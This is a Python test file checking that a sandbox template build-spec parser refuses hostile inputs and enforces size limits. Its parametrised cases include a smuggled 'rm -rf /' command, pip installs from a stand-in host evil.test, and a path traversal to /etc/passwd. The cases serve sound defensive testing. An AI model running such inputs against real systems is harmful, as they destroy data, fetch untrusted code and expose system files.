"""The build spec's bounds and its hostile inputs (pure: no sandbox)."""

from __future__ import annotations

import base64

import pytest

from space.core.errors import InvalidArgument, TooLarge
from space.core.template_spec import (
    MAX_FILE_BYTES,
    MAX_STEPS,
    AptStep,
    FileStep,
    parse_build_spec,
    step_kind,
)


def _file(size: int) -> dict[str, object]:
    return {"file": {"path": "/x", "content_b64": base64.b64encode(b"a" * size).decode(), "mode": 0o600}}


def test_a_full_spec_parses_and_hashes_the_same_in_any_key_order() -> None:
    data = {
        "from": "python",
        "steps": [
            {"apt": ["jq"]},
            {"pip": ["six==1.16.0", "a[b,c]>=1,<2"]},
            _file(3),
            {"run": "echo hi"},
            {"env": {"A": "1"}},
            {"workdir": "/srv/app"},
            {"env": {"A": "2", "B": "x"}},
        ],
        "user": "user",
        "start_cmd": "sleep 1",
    }
    spec = parse_build_spec(data)
    again = parse_build_spec(dict(reversed(list(data.items()))))
    assert spec.spec_hash() == again.spec_hash()
    assert spec.wire()["from"] == "python"
    assert [step_kind(s) for s in spec.steps] == ["apt", "pip", "file", "run", "env", "workdir", "env"]
    assert isinstance(spec.steps[0], AptStep) and isinstance(spec.steps[2], FileStep)
    assert spec.final_env() == {"A": "2", "B": "x"}
    assert spec.final_workdir() == "/srv/app"
    assert spec.base_template == "python" and spec.oci_ref is None
    assert parse_build_spec({"from": "oci:abc.tar"}).oci_ref == "abc.tar"


@pytest.mark.parametrize(
    "data",
    [
        {"from": "../x"},
        {"from": "tpl-../x"},
        {"from": "Python"},
        {"from": "a" * 64},
        {"from": "oci:../x"},
        {"from": "python", "steps": [{"apt": ["-o", "x"]}]},
        {"from": "python", "steps": [{"apt": ["jq; rm -rf /"]}]},
        {"from": "python", "steps": [{"pip": ["--index-url=http://evil.test/"]}]},
        {"from": "python", "steps": [{"pip": ["pkg @ http://evil.test/x.whl"]}]},
        {"from": "python", "steps": [{"file": {"path": "rel", "content_b64": ""}}]},
        {"from": "python", "steps": [{"file": {"path": "/a/../etc/passwd", "content_b64": ""}}]},
        {"from": "python", "steps": [{"file": {"path": "/x", "content_b64": "!!"}}]},
        {"from": "python", "steps": [{"file": {"path": "/x", "content_b64": "", "mode": 0o10000}}]},
        {"from": "python", "steps": [{"run": "a\x00b"}]},
        {"from": "python", "steps": [{"env": {"1A": "x"}}]},
        {"from": "python", "steps": [{"env": {"SPACED_USER": "root"}}]},
        {"from": "python", "steps": [{"workdir": "/a//b"}]},
        {"from": "python", "steps": [{"apt": ["jq"], "pip": ["six"]}]},
        {"from": "python", "steps": [{"shell": "x"}]},
        {"from": "python", "user": "Root"},
        {"from": "python", "user": "a" * 40},
        {"from": "python", "extra": 1},
        {"from": "python", "steps": [{"run": "x"}] * (MAX_STEPS + 1)},
        {"from": "python", "steps": [{"run": "x"}] * 10_000},
        "not an object",
    ],
)
def test_hostile_specs_are_refused_as_invalid_argument(data: object) -> None:
    with pytest.raises(InvalidArgument):
        parse_build_spec(data)


def test_a_file_larger_than_the_bound_is_too_large() -> None:
    with pytest.raises(TooLarge):
        parse_build_spec({"from": "python", "steps": [_file(MAX_FILE_BYTES + 1)]})
    assert parse_build_spec({"from": "python", "steps": [_file(MAX_FILE_BYTES)]}).steps


def test_files_larger_than_the_total_bound_are_too_large() -> None:
    with pytest.raises(TooLarge):
        parse_build_spec({"from": "python", "steps": [_file(MAX_FILE_BYTES)] * 9})
